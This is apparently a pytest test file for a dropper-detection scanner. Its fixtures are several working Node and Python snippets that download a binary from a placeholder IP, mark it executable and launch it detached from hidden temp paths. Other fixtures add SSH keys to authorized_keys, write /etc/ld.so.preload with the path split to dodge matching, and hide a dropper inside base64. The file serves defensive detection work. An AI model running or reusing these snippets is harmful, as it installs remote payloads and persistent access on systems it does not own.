"""Droppers written with their language's library (argument lists, Node's https/fs API,
os.chmod) are read as the shell commands they amount to; programs that start tools and
builds the same way stay unflagged."""

from __future__ import annotations

import base64
import sysconfig
from pathlib import Path

import pytest

from minehunt import dropper, intel
from minehunt.dropper import Behaviour as B
from minehunt.dropper import calls
from minehunt.model import Severity

IT = intel.default()
REPO = Path(__file__).resolve().parents[2]

NODE_API = """\
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");

const target = path.join(os.tmpdir(), ".cache-helper");
https.get("https://192.0.2.7/static/helper", (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(target, 0o755);
    spawn(target, ["--background"], { detached: true, stdio: "ignore" }).unref();
  });
});
"""
NODE_METHODS = """\
const cp = require("node:child_process");
const fs = require("fs");
const dir = require("os").homedir();
const bin = `${dir}/.local/.dbus`;
const res = await fetch("https://192.0.2.8/d");
fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()));
fs.chmodSync(bin, 493);
cp.execFileSync(bin);
"""
PY_ARGV = """\
import os
import subprocess
import tempfile

url = "http://198.51.100.4/k"
dest = os.path.join(tempfile.gettempdir(), ".kswapd0")
subprocess.call(["wget", "-q", url, "-O", dest])
os.chmod(dest, 0o755)
subprocess.Popen([dest], stdout=subprocess.DEVNULL, start_new_session=True)
"""
PY_SHELL_NAME = """\
import os, subprocess, urllib.request
d = "/dev/shm/.x"
urllib.request.urlretrieve("http://198.51.100.4/x", d)
os.chmod(d, 0o777)
subprocess.Popen(d, shell=True)
"""
PY_EXECV = """\
import os, stat, requests
p = "/var/tmp/" + ".s"
with open(p, "wb") as fh:
    fh.write(requests.get("http://198.51.100.9/s").content)
os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
os.execv(p, [p, "-B"])
"""
PY_ASYNC = """\
import asyncio, os, subprocess
async def main():
    path = f"{os.environ['HOME']}/.cfg/.u"
    proc = await asyncio.create_subprocess_exec("curl", "-sSo", path, "http://198.51.100.2/u")
    await proc.wait()
    os.chmod(path, 0o700)
    subprocess.run([path])
"""

PY_FORMAT = """\
import os
BIN = "/var/tmp/.systemd-journal"
URL = "http://198.51.100.77/j"
os.system("wget -q %s -O %s" % (URL, BIN))
os.system("chmod 755 {}".format(BIN))
os.system("nohup {bin} >/dev/null 2>&1 &".format(bin=BIN))
"""


@pytest.mark.parametrize(
    ("source", "name", "line", "least"),
    [
        (NODE_API, "install.js", 9, Severity.MEDIUM),
        (NODE_METHODS, "postinstall.mjs", 6, Severity.LOW),
        (PY_ARGV, "setup.py", 7, Severity.MEDIUM),
        (PY_SHELL_NAME, "update.py", 3, Severity.MEDIUM),
        (PY_EXECV, "agent.py", 3, Severity.MEDIUM),
        (PY_ASYNC, "sync.py", 4, Severity.LOW),
        (PY_FORMAT, "cron.py", 4, Severity.MEDIUM),
    ],
    ids=[
        "node-api",
        "node-methods",
        "py-argv",
        "py-shell-name",
        "py-execv",
        "py-async",
        "py-format",
    ],
)
def test_a_download_made_executable_and_run_through_library_calls_is_found(
    source: str, name: str, line: int, least: Severity
) -> None:
    # Scored as the same commands spelt in shell are: a download that is run is low on its
    # own, medium or more with a hidden path, a detached start or a miner's options.
    a = dropper.analyse(source, IT, name)
    assert a.severity is not None and a.severity >= least, a
    (download,) = [s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC]
    (hit,) = [h for h in download.hits if h.sub.key == "download made executable and run"]
    assert hit.layer == calls.ORIGIN
    assert hit.line == line  # the line of the download call in the file


def test_a_detached_start_from_a_temp_path_is_a_hidden_background_start() -> None:
    a = dropper.analyse(NODE_API, IT, "install.js")
    (hidden,) = [s for s in a.behaviours if s.behaviour is B.HIDDEN_LAUNCH]
    started = [h for h in hidden.hits if h.sub.key.startswith("background start")]
    assert [h.line for h in started] == [13]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('spawn(path.join(os.tmpdir(), "x"), ["-a", b])', "/tmp/x -a $b"),
        ('const d = "/opt/t";\nexecFile(`${d}/run`, ["--now"])', "/opt/t/run --now"),
        ('h = "/srv"\nsubprocess.run([f"{h}/bin/tool", "-q"])', "/srv/bin/tool -q"),
        ('x = "/usr/" + "bin/env"\nsubprocess.check_call([x, "true"])', "/usr/bin/env true"),
        ('os.execl("/bin/sh", "sh", "-c", "id")', "/bin/sh -c id"),
        ('new Deno.Command("/tmp/.d", { args: ["-o", h], stdout: "null" })', "/tmp/.d -o $h"),
        ('Deno.run({ cmd: ["/tmp/.d", "--tls"] })', "/tmp/.d --tls"),
        ('subprocess.call(("wget", "-qO", "/tmp/a", u))', "wget -qO /tmp/a $u"),
        ('os.system("ls -l " + d)', "ls -l $d"),
        ('p = "/tmp/.x"\nos.system("curl -so %s %s" % (p, u))', "curl -so /tmp/.x $u"),
        ('os.system("echo %d%% done" % n)', "echo $n% done"),
        ('os.system("{} -B --url {pool}".format(p, pool="h:1"))', "$p -B --url h:1"),
        ('const p = require("path");\nexecFile(p.join(__dirname, "bin", "x"))', "./bin/x"),
        ('spawn(["a", "b"].join("/"))', None),
        # Minified: a declaration list on one line, spawn bound to another name.
        ('const {spawn:o}=require("child_process"),s="/tmp/x";o(s,["-a"])', "/tmp/x -a"),
        ('_0x2a.bK(spawn, "/tmp/x", ["-a"])', "/tmp/x -a"),  # a proxy call
        ('spawn("/usr/bin/" + "env", ["ls"])', "/usr/bin/env ls"),
        (
            'fs.appendFileSync(path.join(os.homedir(), ".ssh/authorized_keys"), k)',
            "cat >> $HOME/.ssh/authorized_keys",
        ),
        ('with open("/e" + "tc/ld.so.preload", "w") as f:', "cat > /etc/ld.so.preload"),
        ('open(p, mode="ab")', "cat >> $p"),
        ('open("notes.txt")', None),
        ('fs.chmodSync("a/b", 0o644)', None),
        ('const m = /x(y)/.exec("xy"); window.open("https://a.example/")', None),
    ],
)
def test_calls_are_read_as_the_commands_they_run(source: str, expected: str | None) -> None:
    gate = "" if "child_process" in source else "const cp = require('child_process');\n"
    layer = calls.layer(gate + source)
    lines = [] if layer is None else layer.plain_lines
    assert lines == ([] if expected is None else [expected])


def test_persistence_written_with_file_calls_is_found() -> None:
    # The path split so that no quoted "/etc/ld.so.preload" is left in the file.
    source = 'import os\nwith open("/e" + "tc/ld.so.preload", "w") as f:\n    f.write(lib)\n'
    a = dropper.analyse(source, IT, "x.py")
    (hide,) = [s for s in a.behaviours if s.behaviour is B.HIDE_PROCESSES]
    assert hide.hits[0].sub.key == "ld.so.preload written" and hide.hits[0].line == 2
    node = (
        'const fs = require("fs"), os = require("os");\n'
        'fs.appendFileSync(os.homedir() + "/.ssh/authorized_keys", "ssh-ed25519 AAAA x");\n'
    )
    keys = [s for s in dropper.analyse(node, IT, "x.js").behaviours if s.behaviour is B.SSH_SPREAD]
    assert keys and keys[0].hits[0].sub.key == "key added to authorized_keys"


def test_calls_inside_an_encoded_blob_are_read_in_its_decoded_layer() -> None:
    blob = base64.b64encode(PY_ARGV.encode()).decode()
    a = dropper.analyse(f"import base64\nexec(base64.b64decode('{blob}'))\n", IT, "x.py")
    (download,) = [s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC]
    runs = [h for h in download.hits if h.sub.key == "download made executable and run"]
    assert runs and runs[0].layer == f"{calls.ORIGIN} in base64 at line 2"
    assert a.severity is not None and a.severity >= Severity.MEDIUM


def test_values_the_text_does_not_show_are_not_the_same_file() -> None:
    # Three unknown expressions: a download to one, a mode change of another, a start of a
    # third is no download made executable and run.
    source = (
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve(u, os.path.join(a(), b()))\n"
        "os.chmod(os.path.join(c(), d()), 0o755)\n"
        "subprocess.run([e()])\n"
    )
    hits = [h for s in dropper.analyse(source, IT, "x.py").behaviours for h in s.hits]
    assert "Python fetch and exec" in {h.sub.key for h in hits}  # the download itself
    assert "download made executable and run" not in {h.sub.key for h in hits}


def test_a_downloaded_path_held_in_a_shell_variable_is_run_as_it_is() -> None:
    held = 'F=$(mktemp)\ncurl -fsSL http://192.0.2.1/x -o "$F"\nchmod +x "$F"\n"$F" -B\n'
    a = dropper.analyse(held, IT, "x.sh")
    assert any(s.behaviour is B.DOWNLOAD_EXEC for s in a.behaviours)
    # A bare word is looked up in PATH, not run from where it was downloaded.
    bare = "curl -fsSL http://192.0.2.1/x -o tool\nchmod +x tool\ntool -B\n"
    assert not dropper.analyse(bare, IT, "x.sh").behaviours


BENIGN = [
    (
        "build.js",
        'const { spawn, execFileSync } = require("child_process");\n'
        'const fs = require("fs");\n'
        'const head = execFileSync("git", ["rev-parse", "HEAD"]).toString();\n'
        'fs.writeFileSync("version.txt", head);\n'
        'fs.chmodSync("scripts/build.sh", 0o755);\n'
        'spawn("./scripts/build.sh", ["--release"], { stdio: "inherit" });\n',
    ),
    (
        "make.py",
        "import os, subprocess\n"
        'subprocess.run(["make", "-j4"], check=True)\n'
        'os.chmod("build/tool", 0o755)\n'
        'subprocess.run(["./build/tool", "--selftest"], check=True)\n',
    ),
    (
        # An installer fetching its own platform binary and checking its version, as
        # esbuild's and many others' install scripts do: a download that is run, which
        # alone stays below medium.
        "install.js",
        'const https = require("https");\nconst fs = require("fs");\n'
        'const path = require("path");\nconst cp = require("child_process");\n'
        'const bin = path.join(__dirname, "bin", "tool");\n'
        "https.get(url, (res) => res.pipe(fs.createWriteStream(bin)).on('close', () => {\n"
        "  fs.chmodSync(bin, 0o755);\n"
        '  cp.execFileSync(bin, ["--version"]);\n'
        "}));\n",
    ),
]


@pytest.mark.parametrize(("name", "source"), BENIGN, ids=[n for n, _ in BENIGN])
def test_tools_builds_and_installers_stay_below_medium(name: str, source: str) -> None:
    a = dropper.analyse(source, IT, name)
    assert a.severity is None or a.severity < Severity.MEDIUM, a


def _starters() -> list[Path]:
    """The npm modules of the test tree and the interpreter's own library that start
    programs."""
    found = [
        p
        for p in sorted((REPO / "tests" / "node_modules").rglob("*.js"))
        if p.is_file()
        and p.stat().st_size <= dropper.MAX_BYTES
        and b"child_process" in p.read_bytes()
    ]
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    found += [
        p
        for p in sorted(stdlib.glob("*.py"))
        if p.stat().st_size <= dropper.MAX_BYTES and b"subprocess" in p.read_bytes()
    ]
    return found


def test_real_code_that_starts_programs_is_not_read_as_a_dropper() -> None:
    starters = _starters()
    assert len(starters) >= 20
    read = [p for p in starters if calls.layer(p.read_text("utf-8", "replace")) is not None]
    assert len(read) >= 10  # the calls are read, and none of them makes a dropper
    flagged = {}
    for p in starters:
        a = dropper.analyse(p.read_text("utf-8", "replace"), IT, p.name)
        if a.severity is not None and a.severity >= Severity.MEDIUM:
            flagged[str(p)] = a
    assert not flagged
